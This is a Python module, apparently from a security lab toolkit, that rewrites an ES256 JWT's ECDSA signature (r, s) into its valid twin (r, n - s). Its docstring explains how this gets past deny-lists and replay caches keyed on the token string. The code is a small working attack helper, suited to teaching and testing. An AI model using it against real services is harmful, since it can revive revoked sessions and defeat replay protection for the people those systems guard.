"""ECDSA malleability: every ES256 signature (r, s) has a twin (r, n - s) that verifies too.

Verification computes ``w = 1/s``, ``u1 = e·w``, ``u2 = r·w`` and compares the
x coordinate of ``u1·G + u2·Q`` with ``r`` (SEC 1 v2, section 4.1.4). With
``n - s`` in place of ``s``, ``w``, ``u1`` and ``u2`` change sign, so the point
becomes its negative, ``-(x, y) = (x, -y)``: the same x, the same verdict. JWS
(RFC 7518 section 3.4) asks for ``r || s`` and nothing more, so ``labkit.verify``,
PyJWT and OpenSSL accept both twins, as they should. (Bitcoin chose otherwise:
BIP 62 / BIP 146 refuse the "high" ``s > n/2``.)

This is no forgery of new claims: the twin says exactly what the original
said. What it breaks is anything keyed on the token *string*: a cache, a
replay list, a deny-list of logged-out tokens. The twin is a different string
with the same claims, so a list of revoked token strings lets it through; a
deny-list keyed on the ``jti`` claim (as ``labkit.aws.idp`` keeps one) does not.
"""

from __future__ import annotations

from labkit import ecdsa, tokens
from labkit.attacks.forgery import Forgery
from labkit.errors import DisallowedAlgorithmError, MalformedTokenError

__all__ = ["malleate", "twin_signature"]

_SIZE = 32  # bytes in r and in s for P-256


def twin_signature(signature: bytes) -> bytes:
    """The other valid ES256 signature of the same message: ``r || (n - s)``."""
    if not isinstance(signature, bytes) or len(signature) != 2 * _SIZE:
        raise MalformedTokenError("an ES256 signature is 64 bytes: r || s")
    r, s = signature[:_SIZE], int.from_bytes(signature[_SIZE:], "big")
    if not 0 < s < ecdsa.N:
        raise MalformedTokenError("s is outside 1 .. n-1: no valid signature, so no twin")
    return r + (ecdsa.N - s).to_bytes(_SIZE, "big")


def malleate(token: str) -> Forgery:
    """The ES256 ``token`` with its signature's twin: same header, same claims, other string."""
    parsed = tokens.parse(token)
    if parsed.header.get("alg") != "ES256":
        raise DisallowedAlgorithmError(
            f"malleate rewrites ES256 signatures; this token is {parsed.header.get('alg')!r}"
        )
    head, body, _ = tokens.split(token)
    twin = tokens.b64url_encode(twin_signature(parsed.signature))
    return Forgery(
        f"{head}.{body}.{twin}",
        "ES256 (r, s) rewritten as (r, n - s): the same claims under another valid signature",
    )
